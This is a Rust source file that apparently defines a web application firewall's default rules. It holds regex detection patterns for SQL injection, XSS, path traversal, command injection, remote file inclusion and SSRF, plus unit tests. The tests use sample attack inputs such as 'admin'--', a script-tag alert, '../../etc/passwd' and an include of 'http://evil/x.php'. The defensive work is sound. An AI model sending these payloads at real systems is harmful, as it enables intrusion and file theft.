//! Firewall Rules
//!
//! The default ordered catalog. Order is significant: rules run in the
//! order listed here and the first blocking match ends evaluation for a
//! field.

use crate::config::DetectionConfig;
use crate::rules::{Rule, RuleAction, RuleBuilder, Severity, ThreatCategory};
use anyhow::Result;

pub fn rules(config: &DetectionConfig) -> Result<Vec<Rule>> {
    let mut rules = Vec::new();

    if config.sqli_enabled {
        rules.push(
            RuleBuilder::new(942100, "SQL Injection")
                .description("Detects quote, comment and hash sequences used to break out of SQL literals")
                .category(ThreatCategory::SqlInjection)
                .severity(Severity::High)
                .action(RuleAction::Block)
                .pattern(r"(%27)|(')|(--)|(%23)")
                .tags(&["sqli"])
                .build()?,
        );
    }

    if config.xss_enabled {
        rules.push(
            RuleBuilder::new(941100, "XSS Attack")
                .description("Detects script tags and javascript: URIs")
                .category(ThreatCategory::Xss)
                .severity(Severity::High)
                .action(RuleAction::Block)
                .pattern(r"<script>|javascript:")
                .tags(&["xss"])
                .build()?,
        );
    }

    if config.path_traversal_enabled {
        rules.push(
            RuleBuilder::new(930100, "Path Traversal")
                .description("Detects parent directory traversal")
                .category(ThreatCategory::PathTraversal)
                .severity(Severity::Medium)
                .action(RuleAction::Block)
                .pattern(r"\.\./|\.\.\\")
                .tags(&["traversal"])
                .build()?,
        );
    }

    if config.command_injection_enabled {
        rules.push(
            RuleBuilder::new(932100, "Command Injection")
                .description("Detects shell and interpreter execution keywords")
                .category(ThreatCategory::CommandInjection)
                .severity(Severity::High)
                .action(RuleAction::Block)
                .pattern(r"\b(exec|system|eval)\b")
                .tags(&["injection", "rce"])
                .build()?,
        );
    }

    if config.file_inclusion_enabled {
        rules.push(
            RuleBuilder::new(931100, "File Inclusion")
                .description("Detects include/require of remote resources")
                .category(ThreatCategory::FileInclusion)
                .severity(Severity::Medium)
                .action(RuleAction::Block)
                .pattern(r#"(\binclude\b|\brequire\b).*['"](http|ftp)"#)
                .tags(&["rfi"])
                .build()?,
        );
    }

    if config.ssrf_enabled {
        rules.push(
            RuleBuilder::new(934100, "SSRF Attack")
                .description("Detects quoted file, gopher and http targets")
                .category(ThreatCategory::Ssrf)
                .severity(Severity::Medium)
                .action(RuleAction::Block)
                .pattern(r#"(\bfile\b|\bgopher\b|\bhttp\b).*['"].*['"]"#)
                .tags(&["ssrf"])
                .build()?,
        );
    }

    Ok(rules)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn find<'a>(rules: &'a [Rule], name: &str) -> &'a Rule {
        rules.iter().find(|r| r.name == name).unwrap()
    }

    #[test]
    fn test_default_order() {
        let rules = rules(&DetectionConfig::default()).unwrap();
        let names: Vec<&str> = rules.iter().map(|r| r.name.as_str()).collect();
        assert_eq!(
            names,
            vec![
                "SQL Injection",
                "XSS Attack",
                "Path Traversal",
                "Command Injection",
                "File Inclusion",
                "SSRF Attack",
            ]
        );
    }

    #[test]
    fn test_rule_patterns() {
        let rules = rules(&DetectionConfig::default()).unwrap();

        assert!(find(&rules, "SQL Injection").matches("admin'--"));
        assert!(find(&rules, "SQL Injection").matches("id=1%27"));
        assert!(find(&rules, "XSS Attack").matches("<script>alert(1)</script>"));
        assert!(find(&rules, "Path Traversal").matches("../../etc/passwd"));
        assert!(find(&rules, "Path Traversal").matches(r"..\windows\win.ini"));
        assert!(find(&rules, "Command Injection").matches("system('ls')"));
        assert!(!find(&rules, "Command Injection").matches("ecosystem"));
        assert!(find(&rules, "File Inclusion").matches(r#"include 'http://evil/x.php'"#));
        assert!(find(&rules, "SSRF Attack").matches(r#"url=gopher "a" "b""#));
    }

    #[test]
    fn test_categories_can_be_disabled() {
        let config = DetectionConfig {
            sqli_enabled: false,
            ssrf_enabled: false,
            ..Default::default()
        };
        let rules = rules(&config).unwrap();
        assert_eq!(rules.len(), 4);
        assert!(!rules.iter().any(|r| r.category == ThreatCategory::SqlInjection));
    }
}
